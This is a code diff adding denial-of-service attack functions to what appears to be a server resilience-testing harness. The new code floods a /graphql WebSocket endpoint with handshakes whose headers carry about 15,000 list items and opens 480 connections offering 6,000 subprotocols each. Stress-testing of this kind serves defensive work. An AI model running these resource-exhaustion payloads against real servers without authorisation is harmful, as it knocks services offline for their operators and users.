@@ -162,3 +162,44 @@ async def refused_handshakes(target: Target) -> None:
             await reader.read(4096)
 
     await repeat(target, 16, act)
+
+
+_HANDSHAKE = ("upgrade: websocket", "sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==", "sec-websocket-version: 13")
+_TOKENS = ",a" * 3_900
+_HANDSHAKES = {
+    "tokens": ["connection: upgrade", *([f"connection: a{_TOKENS}"] * 4)],
+    "subprotocols": ["connection: upgrade", *([f"sec-websocket-protocol: graphql-transport-ws{_TOKENS}"] * 4)],
+}
+"""Headers of handshakes with lists of 15,000 items."""
+
+
+async def handshakes(headers: list[str], target: Target) -> None:
+    """Send handshakes of WebSockets with long lists over 16 connections without a key."""
+    head = target.head("/graphql", *_HANDSHAKE, *headers, method="GET", key=False)
+
+    async def act() -> None:
+        async with target.connection() as (reader, writer):
+            writer.write(head)
+            await reader.read(4096)
+
+    await repeat(target, 16, act)
+
+
+for _name, _headers in _HANDSHAKES.items():
+    add(f"handshakes_with_15000_{_name}", partial(handshakes, _headers), is_short=_name == "tokens")
+
+
+@attack()
+async def different_subprotocols_of_480_websockets(target: Target) -> None:
+    """Open 480 WebSockets with 6,000 different subprotocols each, without a key."""
+    offers = [
+        f"sec-websocket-protocol: {','.join(f'{letter}{number:x}' for number in range(1_500))}" for letter in "abcd"
+    ]
+    head = target.head("/graphql", *_HANDSHAKE, "connection: upgrade", *offers, method="GET", key=False)
+
+    async def act() -> None:
+        async with target.connection() as (reader, writer):
+            writer.write(head)
+            await reader.read()
+
+    await repeat(target, 480, act)
